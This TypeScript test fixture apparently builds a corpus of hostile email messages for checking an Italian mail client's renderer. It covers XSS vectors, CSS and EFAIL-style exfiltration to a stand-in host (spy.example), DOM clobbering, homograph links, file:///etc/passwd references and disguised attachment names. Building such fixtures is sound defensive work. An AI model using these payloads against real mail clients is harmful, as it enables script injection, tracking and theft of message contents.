// A corpus of hostile messages: each tries to run something, to ask something of SPY, or to look like what it is not.
export const SPY = 'https://spy.example'

export type Hostile = {
  readonly name: string
  readonly raw: string
  /** What must be seen of it. */
  readonly shows: RegExp
}

const CRLF = '\r\n'
const head = (name: string, type: string, more: readonly string[] = []): string =>
  [
    'From: Mallory <mallory@ordinaria.example>',
    'To: mario.rossi@pec.alfa.example',
    `Subject: Ostile: ${name}`,
    `Message-ID: <${name.replace(/\W+/g, '-')}@ordinaria.example>`,
    'Date: Mon, 23 Nov 2026 10:14:00 +0100',
    'MIME-Version: 1.0',
    `Content-Type: ${type}`,
    ...more,
    '',
    '',
  ].join(CRLF)

const RUN = 'top.__ran=1;parent.__ran=1;window.__ran=1;alert(1)'

const html = (name: string, body: string, shows = /ciao/): Hostile => ({
  name,
  raw: head(name, 'text/html; charset=utf-8') + body + CRLF,
  shows,
})

const part = (...lines: readonly string[]): string => lines.join(CRLF)

/** Many parts, each of its own. */
const thousand = (): Hostile => {
  const parts = Array.from({ length: 1_000 }, (_, n) => part('--x', 'Content-Type: text/plain', '', `parte ${n}`))
  return {
    name: 'mille parti',
    raw: head('mille parti', 'multipart/mixed; boundary=x') + part(...parts, '--x--', ''),
    shows: /parte 3/,
  }
}

/** An image that is open at the end of one part and closed in another takes what is between to its server. */
const efail = (): Hostile => ({
  name: 'efail',
  raw:
    head('efail', 'multipart/mixed; boundary=x') +
    part(
      '--x',
      'Content-Type: text/html',
      '',
      `<p>prima</p><img src="${SPY}/`,
      '--x',
      'Content-Type: text/plain',
      '',
      'il segreto in chiaro',
      '--x',
      'Content-Type: text/html',
      '',
      '">dopo',
      '--x--',
      '',
    ),
  shows: /il segreto in chiaro/,
})

const charsets = (): Hostile => ({
  name: 'charset guasti',
  raw:
    head('charset guasti', 'multipart/mixed; boundary=x') +
    part(
      '--x',
      'Content-Type: text/html; charset=utf-7',
      '',
      '+ADw-script+AD4-top.__ran=1+ADw-/script+AD4- ciao',
      '--x',
      'Content-Type: text/plain; charset=x-nessuno',
      'Content-Transfer-Encoding: x-nessuno',
      '',
      'citt\xe0 \x00\x1b[2J ciao',
      '--x',
      'Content-Type: text/html; charset=iso-2022-jp',
      '',
      '\x1b$B<script>top.__ran=1</script>\x1b(B ciao',
      '--x--',
      '',
    ),
  shows: /citt/,
})

const nested = (depth: number): string =>
  depth === 0
    ? part('Content-Type: text/html', '', `<b onclick="${RUN}">in fondo</b>`)
    : part(`Content-Type: message/rfc822`, '', 'Subject: dentro', nested(depth - 1))

export const HOSTILE: readonly Hostile[] = [
  html(
    'script',
    `<p>ciao</p><script>${RUN}</script><script src="${SPY}/a.js"></script><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  ),
  html(
    'gestori di eventi',
    `<body onload="${RUN}" background="${SPY}/b.png"><p onmouseover="${RUN}" style="width:100%">ciao</p><img src=x onerror="${RUN}"><details open ontoggle="${RUN}"><video src="${SPY}/v" onerror="${RUN}"><a href="javascript:${RUN}">js</a><a href=" java\tscript:${RUN}">js2</a><a href="data:text/html,<script>${RUN}</script>">dati</a></body>`,
  ),
  html(
    'stile',
    `<style>@import "${SPY}/i.css"; @import url(${SPY}/i2.css); @font-face{font-family:f;src:url(${SPY}/f.woff2)} p{background:url(${SPY}/p.png);font-family:f;position:fixed;inset:0;z-index:9999} input[value^=a]{background:url(${SPY}/a)} p::before{content:url(${SPY}/c)} @media print{p{background:url(${SPY}/m)}} @supports (color:red){p{background:url(${SPY}/s)}} p{b\\61ckground:u\\72l(${SPY}/e)} </style><p style="background:u\\000072l(${SPY}/q);list-style:url(${SPY}/l);color:var(--x,url(${SPY}/v));height:100vh;position:absolute">ciao</p><div style="width:expression(alert(1));behavior:url(${SPY}/h.htc)">x</div>`,
  ),
  html(
    'svg e mathml',
    `ciao<svg onload="${RUN}"><script>${RUN}</script><image href="${SPY}/svg.png"/><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject><style><img src=x onerror=${RUN}></style></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></mglyph></table></mtext></math><math href="javascript:${RUN}">m</math><form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  ),
  html(
    'dati e cid',
    `ciao<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>"><img src="data:text/html,<script>${RUN}</script>"><img src="cid:nessuno"><img src="cid:../../api/v1/account"><img srcset="${SPY}/1x.png 1x, ${SPY}/2x.png 2x"><picture><source srcset="${SPY}/s.png"></picture><img src="//spy.example/z.png"><img src="file:///etc/passwd"><img src="${SPY}/t.gif?c=1" width=1 height=1>`,
  ),
  html(
    'elementi che caricano',
    `ciao<meta http-equiv="refresh" content="0;url=${SPY}/refresh"><base href="${SPY}/"><link rel="stylesheet" href="${SPY}/l.css"><link rel="prefetch" href="${SPY}/pf"><link rel="dns-prefetch" href="${SPY}"><iframe src="${SPY}/if"></iframe><object data="${SPY}/o"></object><embed src="${SPY}/e"><audio src="${SPY}/au" autoplay></audio><video poster="${SPY}/po"></video><table background="${SPY}/tb"><tr><td background="${SPY}/td">x</td></tr></table><input type="image" src="${SPY}/in"><form action="${SPY}/fo" id=f><input name=a autofocus onfocus="${RUN}"><button>Invia</button></form><frameset><frame src="${SPY}/fr"></frameset><a href="relativa" ping="${SPY}/ping">rel</a>`,
  ),
  html(
    'clobbering',
    `ciao<img name="body"><img name="querySelector"><form name="documentElement"></form><img id="defaultView" name="defaultView"><a id="adoptedStyleSheets" name="createElement" href="${SPY}/k">k</a><p id="app">x</p>`,
  ),
  html(
    'omografi',
    `<p>ciao <a href="https://xn--pple-43d.com/">apple.com</a> <a href="${SPY}/x">https://www.banca.it/accesso</a> <a href="https://www.banca.it@spy.example/">banca</a></p>`,
    /nome che imita un altro/,
  ),
  html('annidata', `${'<div>'.repeat(3_000)}ciao${'<table><tr><td>'.repeat(300)}`),
  html('grande', `ciao${'<p style="color:red">riga</p>'.repeat(20_000)}`),
  efail(),
  charsets(),
  thousand(),
  {
    name: 'messaggi annidati',
    raw:
      head('messaggi annidati', 'multipart/mixed; boundary=x') +
      part('--x', '', 'ciao', '--x', nested(40), '--x--', ''),
    shows: /ciao/,
  },
  {
    name: 'testo',
    raw: `${head('testo', 'text/plain; charset=utf-8')}ciao <script>${RUN}</script> javascript:${RUN} https://xn--pple-43d.com/ <img src=${SPY}/x onerror=${RUN}>${CRLF}`,
    shows: /<script>/,
  },
  {
    name: 'allegati',
    raw:
      head('allegati', 'multipart/mixed; boundary=x') +
      part(
        '--x',
        '',
        'ciao',
        ...[
          ['fattura.pdf.exe', 'application/pdf'],
          ['fattura\u202efdp.js', 'application/pdf'],
          ['pagina.html', 'text/html'],
          ['foto.png', 'image/png'],
          ['"><img src=x onerror=top.__ran=1>.txt', 'text/plain'],
        ].flatMap(([name, type]) => [
          '--x',
          `Content-Type: ${type}; name="=?utf-8?B?${Buffer.from(name!).toString('base64')}?="`,
          'Content-Disposition: attachment',
          '',
          `<script>${RUN}</script>`,
        ]),
        '--x--',
        '',
      ),
    shows: /Il nome nasconde/,
  },
]
